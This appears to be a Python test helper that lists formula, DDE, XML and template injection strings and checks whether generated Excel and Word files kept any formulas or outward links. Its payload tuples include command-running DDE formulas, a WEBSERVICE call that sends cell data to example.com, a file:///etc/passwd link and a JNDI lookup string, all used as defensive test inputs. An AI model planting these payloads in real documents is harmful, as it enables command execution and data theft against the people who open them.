"""Text that a spreadsheet might take for something else, and a look for what it did take."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path
from typing import Any

from lxml import etree

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://example.com","点我")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,1)",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "{=1+1}",
    "%0A=1+1",
)
"""What a spreadsheet would reckon if it were typed."""

INJECTIONS = (
    *FORMULAS,
    '=WEBSERVICE("http://example.com/?"&A1)',
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML("http://example.com","//a")',
    '=HYPERLINK("file:///etc/passwd")',
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@import",
    "＝1+1",
    "＋1+1",
    "＠SUM(1,1)",
    "−2+3",
    " =1+1",
    "\n=1+1",
    "\r=1+1",
    "'=1+1",
    '"=1+1"',
    ";=1+1",
    "\u200b=1+1",
    "{=TABLE(A1,B1)}",
    "<f>1+1</f>",
    "<r>1</r>",
    "<r></si></sst></r>",
    "]]></t></is></c><c><f>1+1</f>",
    "&#61;1+1",
    "_x003D_1+1",
    "http://example.com/x",
    "mailto:a@example.com",
    "internal:'首页'!A1",
    "${jndi:ldap://example.com/a}",
    "{{ 7*7 }}",
)
"""What has been used to make cells, links or templates do something."""

STRANGE = (
    "http://example.com",
    "mailto:a@example.com",
    "internal:'首页'!A1",
    "_x0041_",
    " 首尾空格 ",
    "001",
    "1e5",
    "是\n否",
)
SPOILT = ("坏\x01字", "坏\x0b字", "坏\ufffe字", "坏\ud800字")
"""Signs that XML cannot hold."""

LEADS = re.compile(r"""HYPERLINK\("#'[^'!"]+'![A-Z]+\d+","[A-Z]+\d+"\)""")
SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def formula_cells(data: bytes) -> list[str]:
    """Addresses of all cells of a workbook that hold a formula."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [etree.fromstring(archive.read(n)) for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
    return [cell.get("r") for sheet in sheets for cell in sheet.iter(f"{SHEET}c") if cell.find(f"{SHEET}f") is not None]


def links(data: bytes) -> list[tuple[str, str, str]]:
    """(cell, file, place in it) of every link that leads out of the first sheet."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet: Any = etree.fromstring(archive.read("xl/worksheets/sheet1.xml"))
        relations = etree.fromstring(archive.read("xl/worksheets/_rels/sheet1.xml.rels"))
    target = {item.get("Id"): item.get("Target") for item in relations}
    found = []
    for item in sheet.iter(f"{SHEET}hyperlink"):
        (relation,) = (value for name, value in item.items() if name.endswith("}id"))
        found.append((item.get("ref"), target[relation], item.get("location", "")))
    return found


def cells_of(path_or_data: Path | bytes, tab: str | None = None) -> list[list[Any]]:
    """The rows of a sheet (the first unless named) as values."""
    import openpyxl

    source = io.BytesIO(path_or_data) if isinstance(path_or_data, bytes) else path_or_data
    book = openpyxl.load_workbook(source)
    sheet = book[tab] if tab else book.worksheets[0]
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def formulas_of(data: bytes) -> dict[str, str]:
    """Every formula of a workbook by sheet part and cell, but those by which a finding leads to its cell."""
    found = {}
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/sheet"):
                for cell in etree.fromstring(archive.read(name)).iter(f"{SHEET}c"):
                    formula = cell.find(f"{SHEET}f")
                    if formula is not None and not LEADS.fullmatch(formula.text or ""):
                        found[f"{name} {cell.get('r')}"] = formula.text or ""
    return found


def ways_out(data: bytes) -> set[str]:
    """Where the links of a workbook or a Word file lead outside it, and the fields of a Word file."""
    found = set()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.endswith(".rels"):
                items = etree.fromstring(archive.read(name))
                found |= {item.get("Target") for item in items if item.get("TargetMode") == "External"}
            elif name.startswith("word/") and name.endswith(".xml"):
                marks = etree.fromstring(archive.read(name)).iter("{*}instrText", "{*}fldSimple")
                found |= {mark.text or "".join(map(str, mark.attrib.values())) for mark in marks}
    return found
